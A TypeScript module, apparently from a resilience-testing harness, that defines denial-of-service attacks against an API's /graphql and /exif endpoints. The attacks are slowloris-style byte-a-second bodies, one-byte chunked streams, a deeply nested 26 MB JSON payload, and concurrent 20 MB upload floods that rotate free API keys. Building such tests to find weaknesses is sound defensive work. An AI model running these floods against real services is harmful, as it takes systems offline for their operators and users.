import type { Subject, Target } from '../attack.ts';
import { flood, hold, same, trickle } from '../deliveries.ts';
import { largeJpeg } from '../images.ts';
import { headOf, request } from '../wire.ts';

const BODY_BYTES = 900_000;

const slowHead = (path: string, key?: string): Uint8Array =>
  Buffer.from(
    headOf({ path, key }, { 'Content-Type': 'application/json', 'Content-Length': String(BODY_BYTES) }),
  );

const slowBodies =
  (key?: (target: Target) => string | undefined) =>
  (target: Target): Promise<void> =>
    hold(target, same(slowHead('/graphql', key?.(target))), { drip: Buffer.from('[') });

/** JSON bodies that are slow for `/exif`: 26 MB of nested arrays with 1.5 million members. */
function nestedJson(): string {
  const deep = `${'['.repeat(400_000)}${']'.repeat(400_000)}`;
  const wide = `[${'{"a":[1,2]},'.repeat(500_000)}0]`;
  const filler = `"${'x'.repeat(19_000_000)}"`;
  return `{"base64":${filler},"deep":${deep},"wide":${wide}}`;
}

export const bodies: readonly Subject[] = [
  {
    name: 'slow-bodies',
    title: '2,100 bodies that come a byte a second, no key',
    kind: 'found',
    attacks: [{ name: 'slow', run: slowBodies() }],
  },
  {
    name: 'slow-bodies-same-address',
    title: "the same from the client's address",
    kind: 'found',
    sameAddress: true,
    attacks: [{ name: 'slow', run: slowBodies() }],
  },
  {
    name: 'slow-bodies-keyed',
    title: 'the same with a free key',
    kind: 'found',
    attacks: [{ name: 'slow', run: slowBodies(({ keys }) => keys.free[0]) }],
  },
  {
    name: 'one-byte-chunks',
    title: '1,900 bodies in chunks of one byte, 97,000 each, no key',
    kind: 'found',
    attacks: [
      {
        name: 'chunks',
        run: (target) =>
          trickle(target, {
            head: Buffer.from(
              headOf(
                { path: '/graphql' },
                { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
              ),
            ),
            piece: Buffer.from('1\r\n[\r\n'),
            pieces: 97_000,
          }),
      },
    ],
  },
  {
    name: 'exif-json',
    title: '26 MB of JSON with 1.5 million members for /exif, with a free key',
    kind: 'found',
    attacks: [
      {
        name: 'json',
        run: (target) =>
          flood(
            target,
            same(request({ path: '/exif/v1/extract', key: target.keys.free[0], body: nestedJson() })),
            { connections: 4 },
          ),
      },
    ],
  },
  {
    name: 'exif-uploads',
    title: 'forty valid uploads of 20 MB in JSON at once, with five free keys',
    kind: 'found',
    attacks: [
      {
        name: 'uploads',
        run: (target) => {
          const body = JSON.stringify({ base64: largeJpeg().toString('base64') });
          const uploads = target.keys.free.map((key) => request({ path: '/exif/v1/extract', key, body }));
          return flood(target, (count) => uploads[count % uploads.length] as Uint8Array, { connections: 40 });
        },
      },
    ],
  },
];
